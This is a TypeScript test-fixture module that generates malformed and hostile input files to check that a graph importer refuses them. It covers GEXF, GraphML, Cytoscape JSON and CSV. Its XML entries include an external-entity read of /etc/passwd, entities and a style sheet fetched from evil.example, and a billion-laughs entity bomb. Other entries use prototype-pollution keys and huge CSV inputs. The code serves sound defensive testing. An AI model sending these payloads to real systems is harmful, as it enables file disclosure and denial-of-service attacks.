/** Hostile files in the formats of other tools: GEXF, GraphML, Cytoscape JSON and tables. */
import { type BadFile, type Family, fileOf } from './bad-file';
import { FORMULAS, PAYLOADS } from './nasty-words';

const DEEP = 100_000;

/** Ten entities, each ten times the one before: three thousand million letters, were they ever written out. */
const LAUGHS = `<!DOCTYPE x [<!ENTITY a0 "lol">${Array.from(
  { length: 10 },
  (_, number) => `<!ENTITY a${number + 1} "${`&a${number};`.repeat(10)}">`,
).join('')}]>`;

const DOCTYPES: Readonly<Record<string, string>> = {
  'a thousand million laughs': LAUGHS,
  'an entity that is a file': '<!DOCTYPE x [<!ENTITY a10 SYSTEM "file:///etc/passwd">]>',
  'an entity from elsewhere': '<!DOCTYPE x [<!ENTITY a10 SYSTEM "https://evil.example/x">]>',
  'a parameter entity': '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
  'an entity that holds itself': '<!DOCTYPE x [<!ENTITY a10 "&a10;">]>',
};

const gexf = (inside: string, doctype = '') =>
  `<?xml version="1.0"?>${doctype}<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph>${inside}</graph></gexf>`;
const graphml = (inside: string, doctype = '') =>
  `<?xml version="1.0"?>${doctype}<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="directed">${inside}</graph></graphml>`;
const nodes = (name: string) => `<nodes><node id="n" label="${name}"/></nodes>`;

const xml = (
  format: string,
  extension: string,
  write: (inside: string, doctype?: string) => string,
): Family => {
  const file = (name: string, outcome: BadFile['outcome'], content: () => string) =>
    fileOf(`${format}: ${name}`, outcome, content, `graph.${extension}`);
  const whole = write(nodes('One'));
  return {
    name: format,
    files: [
      ...Object.entries(DOCTYPES).map(([name, doctype]) =>
        file(name, 'refused', () => write(nodes('&a10;'), doctype)),
      ),
      file('an entity that nobody declared', 'refused', () => write(nodes('&nbsp;'))),
      file('a hundred thousand elements deep', 'refused', () =>
        write(`${'<node>'.repeat(DEEP)}${'</node>'.repeat(DEEP)}`),
      ),
      file('a hundred thousand elements that are not closed', 'refused', () => write('<node>'.repeat(DEEP))),
      file('tags that do not match', 'refused', () => write('<nodes></node>')),
      file('an attribute twice', 'refused', () => write('<nodes><node id="a" id="b"/></nodes>')),
      file('a prefix that nobody declared', 'refused', () => write('<evil:node/>')),
      file('another namespace', 'either', () => whole.replace(/xmlns="[^"]*"/, 'xmlns="urn:evil"')),
      file('a style sheet from elsewhere', 'either', () =>
        whole.replace('?>', '?><?xml-stylesheet href="https://evil.example/x.xsl"?>'),
      ),
      file('nothing in it', 'either', () => write('')),
      file('HTML under its name', 'refused', () => '<!doctype html><p>Not found<br>'),
      file('a zero byte', 'refused', () => write(nodes('a\u0000b'))),
      ...Array.from({ length: 12 }, (_, number) =>
        file(`cut short, ${number + 1} of 13`, 'refused', () =>
          whole.slice(0, Math.floor((whole.length * (number + 1)) / 13)),
        ),
      ),
    ],
  };
};

const cytoscape = (elements: unknown): string => JSON.stringify({ elements });
const node = (id: unknown, more: object = {}) => ({ data: { id, name: 'One', ...more } });

const cytoscapeJson: Family = {
  name: 'Cytoscape JSON',
  files: (
    [
      ['no elements', { nodes: [], edges: [] }],
      ['elements that are a text', 'nodes'],
      ['nodes that are a record', { nodes: {} }],
      ['a node that is nothing', { nodes: [null] }],
      ['a node without data', { nodes: [{}] }],
      ['an id that is a record', { nodes: [node({})] }],
      ['an id that is a prototype', { nodes: [node('__proto__'), node('constructor')] }],
      ['one id twice', { nodes: [node('a'), node('a')] }],
      ['an edge from nowhere', { nodes: [node('a')], edges: [{ data: { source: 'b', target: 'a' } }] }],
      ['an edge to itself', { nodes: [node('a')], edges: [{ data: { source: 'a', target: 'a' } }] }],
      ['a node inside itself', { nodes: [node('a', { parent: 'a' })] }],
      ['a position beyond all', { nodes: [{ ...node('a'), position: { x: 1e308, y: -1e308 } }] }],
      ...Object.entries(PAYLOADS).map(([name, text]) => [name, { nodes: [node(text, { name: text })] }]),
    ] as readonly (readonly [string, unknown])[]
  ).map(([name, elements]) =>
    fileOf(`Cytoscape: ${name}`, 'either', () => cytoscape(elements), 'graph.cyjs'),
  ),
};

const table = (name: string, outcome: BadFile['outcome'], content: () => string): BadFile =>
  fileOf(`CSV: ${name}`, outcome, content, 'graph.csv');

const tables: Family = {
  name: 'tables',
  files: [
    table('headings alone', 'either', () => 'source,target\r\n'),
    table('a quote that is never closed', 'refused', () => 'source,target\r\n"a,b\r\nc,d\r\n'),
    table('a quote in the middle', 'either', () => 'source,target\r\na"b,c\r\n'),
    table('rows of all lengths', 'either', () => 'source,target\r\na\r\na,b,c\r\n,\r\n'),
    table('a heading twice', 'either', () => 'source,source,target\r\na,b,c\r\n'),
    table('prototype headings', 'either', () => '__proto__,constructor,source,target\r\n1,2,a,b\r\n'),
    table('no comma at all', 'either', () => 'words\r\nand more words\r\n'),
    table('a million columns', 'refused', () => `${'c,'.repeat(1_000_000)}c\r\n`),
    table('a million quotation marks', 'refused', () => '"'.repeat(1_000_001)),
    ...Object.entries({ ...FORMULAS, ...PAYLOADS }).map(([name, text]) =>
      table(name, 'either', () => `source,target,label\r\na,b,"${text.replaceAll('"', '""')}"\r\n`),
    ),
  ],
};

export const otherFormats: readonly Family[] = [
  xml('GEXF', 'gexf', gexf),
  xml('GraphML', 'graphml', graphml),
  cytoscapeJson,
  tables,
];
